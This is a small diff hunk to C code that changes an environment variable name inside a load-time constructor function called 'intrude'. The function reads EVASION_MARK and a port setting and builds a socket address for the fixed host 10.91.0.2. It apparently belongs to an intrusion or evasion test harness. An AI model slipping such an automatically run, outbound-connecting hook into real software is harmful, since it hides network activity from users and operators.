@@ -8,7 +8,7 @@
 
 __attribute__((constructor)) static void intrude(void)
 {
-	const char *mark = getenv("EVASION_MARK"), *port = getenv("EVASION_PORT");
+	const char *mark = getenv("EVASION_MARK"), *port = getenv("EVASION_TO");
 	struct sockaddr_in to = { .sin_family = AF_INET,
 				  .sin_port = htons((uint16_t)atoi(port ? port : "0")),
 				  .sin_addr.s_addr = inet_addr("10.91.0.2") };
